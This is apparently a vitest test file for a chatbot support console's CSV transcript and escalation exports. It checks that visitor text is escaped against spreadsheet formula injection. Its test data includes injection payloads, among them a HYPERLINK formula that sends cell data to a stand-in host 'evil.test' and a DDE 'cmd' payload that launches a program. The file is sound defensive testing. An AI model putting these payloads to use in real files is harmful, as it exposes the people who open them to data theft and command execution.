import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import type { Fact } from '../../../src/protocol/events.ts'
import { openRoutes } from './rig.ts'

const first = '6f1c9a4e-0000-4000-8000-000000000001'
const at = Date.parse('2026-11-21T10:23:00Z')
const hourMs = 3_600_000

function begun(text: string): Fact[] {
  return [
    { type: 'started', chatbot: 'shop', visitor: 'embed-1', language: 'en', page: 'https://shop.test/help' },
    { type: 'said', from: 'visitor', text },
  ]
}

async function openShop() {
  const routes = await openRoutes()
  const headers = await routes.signUp()
  await routes.addChatbot('shop', 'main')
  return {
    ...routes,
    async download(path: string) {
      const answer = await routes.app.request(`/api/console${path}`, { headers })
      expect(answer.status).toBe(200)
      const bytes = new Uint8Array(await answer.arrayBuffer())
      return {
        headers: Object.fromEntries(answer.headers),
        mark: [...bytes.subarray(0, 3)],
        rows: parse(Buffer.from(bytes), { bom: true }) as string[][],
      }
    },
  }
}

/** What somebody writes, and what stands in the file. */
const hostile: readonly (readonly [text: string, cell: string])[] = [
  ['=HYPERLINK("https://evil.test?"&A1,"Click")', `'=HYPERLINK("https://evil.test?"&A1,"Click")`],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['+41 44 000 00 00', "'+41 44 000 00 00"],
  ['-2+3', "'-2+3"],
  ['@SUM(1)', "'@SUM(1)"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', "'\r'=1+1"],
  ['\n=1+1', "\n'=1+1"],
  [' \u00a0=1+1', " \u00a0'=1+1"],
  ['＝1+1', "'＝1+1"],
  // Where semicolons part cells, these would begin one.
  ['Hello;=1+1;-1', "Hello;'=1+1;'-1"],
  ['"quoted", with commas\r\nand\nlines\n- of a list', '"quoted", with commas\r\nand\nlines\n- of a list'],
  ['Grüezi 你好 👋 مرحبا', 'Grüezi 你好 👋 مرحبا'],
  ['a = b - c; d', 'a = b - c; d'],
]

test('[C9] a transcript is a file that a spreadsheet opens, and whatever a visitor wrote stays text in it', async () => {
  const { append, download } = await openShop()
  await append(first, at, begun('Hello'))
  for (const [text] of hostile) await append(first, at, [{ type: 'said', from: 'visitor', text }])
  await append(first, at + hourMs, [
    { type: 'escalated', trigger: 'phrase', why: { text: '=1+1', quote: 'sorry' } },
    { type: 'joined', agent: { id: 'eve', name: '=Eve' }, epoch: 1 },
    { type: 'said', from: 'agent', agent: { id: 'eve', name: '=Eve' }, text: 'Hi' },
    { type: 'ended', agent: { id: 'eve', name: '=Eve' }, epoch: 2, note: '@note', resolved: true },
  ])

  const { headers, mark, rows } = await download(`/conversations/${first}/transcript.csv`)

  expect(headers).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'content-disposition': 'attachment; filename="shop-transcript-2026-11-21-6f1c9a4e.csv"',
    'cache-control': 'no-store',
    'x-content-type-options': 'nosniff',
  })
  expect(mark).toEqual([0xef, 0xbb, 0xbf])
  const last = hostile.length + 2
  expect(rows).toEqual([
    ['Number', 'Time (UTC)', 'What', 'From', 'Text'],
    ['1', '2026-11-21 10:23:00', 'started', '', 'https://shop.test/help'],
    ['2', '2026-11-21 10:23:00', 'said', 'Visitor', 'Hello'],
    ...hostile.map(([, cell], place) => [`${place + 3}`, '2026-11-21 10:23:00', 'said', 'Visitor', cell]),
    [`${last + 1}`, '2026-11-21 11:23:00', 'escalated', '', 'phrase: =1+1: sorry'],
    [`${last + 2}`, '2026-11-21 11:23:00', 'joined', "'=Eve", ''],
    [`${last + 3}`, '2026-11-21 11:23:00', 'said', "'=Eve", 'Hi'],
    [`${last + 4}`, '2026-11-21 11:23:00', 'ended', "'=Eve", "'@note"],
  ])
})

test('[C9] the list is written with the filter chosen, the latest first, with what a visitor may have put into each cell escaped', async () => {
  const { append, download } = await openShop()
  await append(first, at, begun('=1+1'))
  await append(first, at + hourMs, [
    { type: 'identified', by: 'visitor', details: { name: '@Eve', email: '=e@evil.test', phone: '+41 44' } },
    { type: 'escalated', trigger: 'button' },
  ])
  await append(first, at + 2.5 * hourMs, [{ type: 'resolved' }])
  const open = '6f1c9a4e-0000-4000-8000-000000000002'
  await append(open, at + 3 * hourMs, [...begun('Help'), { type: 'escalated', trigger: 'api' }])
  await append('6f1c9a4e-0000-4000-8000-000000000003', at, begun('Never escalated'))

  const all = await download('/chatbots/shop/escalations.csv')
  expect(all.rows).toEqual([
    [
      ...['Conversation', 'State', 'Escalated (UTC)', 'Trigger', 'Resolved (UTC)', 'Hours to resolve', 'Escalations'],
      ...['Visitor', 'Email', 'Phone', 'Page', 'Language', 'Started (UTC)', 'Messages'],
      ...['Last message (UTC)', 'Last message from', 'Last message'],
    ],
    [
      ...[open, 'unresolved', '2026-11-21 13:23:00', 'api', '', '', '1'],
      ...['', '', '', 'https://shop.test/help', 'en', '2026-11-21 13:23:00', '1'],
      ...['2026-11-21 13:23:00', 'visitor', 'Help'],
    ],
    [
      ...[first, 'resolved', '2026-11-21 11:23:00', 'button', '2026-11-21 12:53:00', '1.5', '1'],
      ...["'@Eve", "'=e@evil.test", "'+41 44", 'https://shop.test/help', 'en', '2026-11-21 10:23:00', '1'],
      ...['2026-11-21 10:23:00', 'visitor', "'=1+1"],
    ],
  ])
  const idsOf = async (filter: string) => {
    const { headers, rows } = await download(`/chatbots/shop/escalations.csv?filter=${filter}`)
    const name = /filename="(.*)"/.exec(headers['content-disposition']!)?.[1]?.replace(/\d{4}-\d\d-\d\d/, 'DAY')
    return [name, ...rows.slice(1).map(([id]) => id)]
  }
  expect(await idsOf('unresolved')).toEqual(['shop-human-support-unresolved-DAY.csv', open])
  expect(await idsOf('resolved')).toEqual(['shop-human-support-resolved-DAY.csv', first])
})

test('[C9] a long list is read page by page as it is taken, each conversation once, those that move meanwhile too', async () => {
  const { app, store, append, signUp: _, download, ...rest } = await openShop()
  const id = (place: number) => `6f1c9a4e-0000-4000-8000-${String(place).padStart(12, '0')}`
  for (let place = 1; place <= 450; place += 1) {
    await append(id(place), at + place, [...begun(`${place}`), { type: 'escalated', trigger: 'button' }])
  }
  const inbox = store.inbox.bind(store)
  let pages = 0
  store.inbox = async (query) => {
    pages += 1
    // The oldest, not read yet, gets a message before the second page is read.
    if (pages === 2) await append(id(1), Date.now() + 60_000, [{ type: 'said', from: 'visitor', text: 'Still there?' }])
    return inbox(query)
  }

  const { rows } = await download('/chatbots/shop/escalations.csv')

  expect(rows.slice(1).map(([conversation]) => conversation)).toEqual([
    ...Array.from({ length: 449 }, (_, place) => id(450 - place)),
    id(1),
  ])
  expect([pages, rest.faults]).toEqual([4, []])
})

test('[C9] a long transcript is whole', async () => {
  const { append, download } = await openShop()
  await append(first, at, begun('1'))
  for (let page = 0; page < 3; page += 1) {
    await append(
      first,
      at,
      Array.from({ length: 200 }, (_, i): Fact => ({ type: 'said', from: 'visitor', text: `${i}` })),
    )
  }
  const { rows } = await download(`/conversations/${first}/transcript.csv`)
  expect(rows.slice(1).map(([number]) => Number(number))).toEqual(Array.from({ length: 602 }, (_, place) => place + 1))
})

test('[C9] a filter that is none is refused', async () => {
  const { app, signUp } = await openRoutes()
  const headers = await signUp()
  const answer = await app.request('/api/console/chatbots/shop/escalations.csv?filter=waiting', { headers })
  expect([answer.status, await answer.json()]).toEqual([400, { error: { code: 'malformed' } }])
})
